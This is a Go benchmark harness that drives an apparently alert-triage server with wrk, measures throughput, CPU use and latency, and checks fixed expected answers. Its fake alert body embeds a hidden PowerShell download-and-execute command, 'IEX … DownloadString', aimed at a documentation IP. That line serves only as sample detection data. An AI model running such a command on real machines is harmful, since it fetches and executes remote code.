package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"time"
)

// sample is one measurement.
type sample struct {
	perSecond float64
	cpu       float64 // seconds per 1,000
	p50, p99  float64 // milliseconds
}

// load is what drives a server: wrk with one thread, in a closed loop. It needs less of
// the machine, which it shares with what it drives, than a client in Go.
type load struct{ folder string }

// script posts a body and prints its figures as JSON.
const script = `wrk.method = "POST"
wrk.headers["Content-Type"] = "application/json"
local file = io.open(%q)
wrk.body = file:read("*a")
file:close()
function done(summary, latency)
  print(string.format('{"requests":%%d,"seconds":%%f,"wrong":%%d,"lost":%%d,"p50":%%f,"p99":%%f}',
    summary.requests, summary.duration / 1e6, summary.errors.status,
    summary.errors.connect + summary.errors.read + summary.errors.write + summary.errors.timeout,
    latency:percentile(50) / 1e3, latency:percentile(99) / 1e3))
end
`

func newLoad(folder string) (*load, error) {
	if _, err := exec.LookPath("wrk"); err != nil {
		return nil, fmt.Errorf("wrk is not installed (Debian: apt-get install wrk): %w", err)
	}
	for name, indicators := range map[string]int{"small": 4, "large": 100} {
		body := filepath.Join(folder, name+".json")
		if err := os.WriteFile(body, alert(indicators), 0o600); err != nil {
			return nil, err
		}
		if err := os.WriteFile(filepath.Join(folder, name+".lua"), fmt.Appendf(nil, script, body), 0o600); err != nil {
			return nil, err
		}
	}
	return &load{folder}, nil
}

// bodyOf says which body a workload is sent.
func bodyOf(workload string) string {
	if workload == "w3" {
		return "large"
	}
	return "small"
}

// measure sends a workload to an address for a time; pid is of the server.
func (l *load) measure(ctx context.Context, url, workload string, connections int, length time.Duration, pid int) (sample, error) {
	cmd := exec.CommandContext(ctx, "wrk", "-t1", "--timeout", "30s", "-c"+strconv.Itoa(connections), "-d"+strconv.Itoa(int(length.Seconds())), "-s", filepath.Join(l.folder, bodyOf(workload)+".lua"), url)
	before := cpuSeconds(pid)
	out, err := cmd.Output()
	if err != nil {
		return sample{}, fmt.Errorf("wrk: %w", err)
	}
	used := cpuSeconds(pid) - before
	var told struct {
		Requests, Seconds, P50, P99 float64
		Wrong, Lost                 int
	}
	at := bytes.LastIndexByte(out, '{')
	if at < 0 || json.Unmarshal(bytes.TrimSpace(out[at:]), &told) != nil {
		return sample{}, fmt.Errorf("wrk says: %s", out)
	}
	if told.Wrong+told.Lost > 0 || told.Requests == 0 {
		return sample{}, fmt.Errorf("%s: of %.0f requests %d were answered wrong and %d not at all", url, told.Requests, told.Wrong, told.Lost)
	}
	return sample{told.Requests / told.Seconds, used / told.Requests * 1000, told.P50, told.P99}, nil
}

// alert is a body of about 1 KB; with 100 indicators, of about 6 KB.
func alert(indicators int) []byte {
	type indicator struct {
		Value string `json:"value"`
		Type  string `json:"type"`
		Score int    `json:"score"`
	}
	list := make([]indicator, indicators)
	for i := range list {
		list[i] = indicator{fmt.Sprintf("203.0.113.%d", i%250), []string{"ip", "domain"}[i%2], i}
	}
	body, _ := json.Marshal(map[string]any{
		"id": "alert-4711", "rule": "Suspicious PowerShell Download", "severity": "high", "confidence": 91,
		"host": map[string]any{"name": "ws-0231", "os": "windows", "ip": "10.20.30.40"}, "user": map[string]any{"name": "jdoe", "department": "finance"},
		"process":    map[string]any{"name": "powershell.exe", "command": "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')", "pid": 4242, "parent": "winword.exe"},
		"detail":     strings.Repeat("observed on the endpoint by the sensor; ", 8),
		"indicators": list,
	})
	return body
}

// wanted is what each workload must answer, whoever runs it.
var wanted = map[string]string{
	"w1": `{"host":"ws-0231","id":"alert-4711","score":90,"summary":"suspicious powershell download on ws-0231: escalate","user":"jdoe","verdict":"escalate"}`,
	"w2": `{"id":"alert-4711","n":164122}`,
	"w3": `{"bad":50,"count":100,"total":10150}`,
}
